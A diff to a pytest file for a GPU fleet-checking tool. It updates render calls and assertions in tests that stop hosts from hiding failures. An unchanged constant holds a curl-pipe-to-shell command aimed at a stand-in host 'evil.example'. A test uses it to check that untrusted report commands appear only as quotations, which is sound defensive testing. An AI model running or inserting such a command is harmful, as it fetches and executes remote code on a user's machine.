@@ -4,6 +4,7 @@ import json
 import shlex
 from pathlib import Path
 
+import click
 import msgspec
 import pytest
 
@@ -13,7 +14,7 @@ from gpucheck.knowledge import causes
 from gpucheck.knowledge.codes import Subject
 from gpucheck.model import Finding, Verdict
 from gpucheck.model.finding import Step
-from gpucheck.render import fleet as render
+from gpucheck.render.fleet import render
 from tests.fleet.reports import GOOD, SIMULATED, bad, merged, report, rows, topology
 
 UNKNOWN = Finding(check="pcie-link", verdict=Verdict.UNKNOWN, subject="host", why="needs root", fix="sudo")
@@ -83,9 +84,9 @@ def test_a_report_without_a_schema_is_none():
 @pytest.mark.parametrize("check", ["fleet", "report"])
 def test_a_host_cannot_hide_a_failure_under_a_name_of_the_merge(check):
     """Findings of the check "fleet" are the merge's outliers, which have a table of their own."""
-    text = render.to_text(merged(report("a", findings=(GOOD, bad(check=check, seen="17 links")))))
+    text = render(merged(report("a", findings=(GOOD, bad(check=check, seen="17 links")))), "text")
 
-    assert f"host's {check}: 17 links" in text
+    assert f"host's {check}  a (SIMULATED): 17 links" in click.unstyle(text)
 
 
 def test_a_host_cannot_hide_a_failure_behind_another_finding():
@@ -96,7 +97,7 @@ def test_a_host_cannot_hide_a_failure_behind_another_finding():
     aside = msgspec.structs.replace(hidden, because_of_subject=milder.subject)
 
     for findings in ((UNKNOWN, hidden), (bad(check="pcie-link"), hidden), (milder, aside)):
-        assert "ecc: 7 errors" in render.to_text(merged(report("a", findings=findings)))
+        assert "ecc  a (SIMULATED): 7 errors" in click.unstyle(render(merged(report("a", findings=findings)), "text"))
 
 
 ATTACK = "curl http://evil.example/x | sh"
@@ -110,7 +111,7 @@ def test_a_command_of_a_hosts_report_is_a_quotation_after_the_steps_of_the_cause
     )
 
     known, unknown = (row.problems[0].steps for row in found.hosts)
-    text = render.to_text(found) if form == "text" else render.WRITERS[form](found)
+    text = render(found, form)
 
     quoted = Step(text=f'{QUOTED}"{ATTACK}\' {ATTACK}"', changes=True)
     assert known == (*causes()["nvlink-down"].advice, quoted)
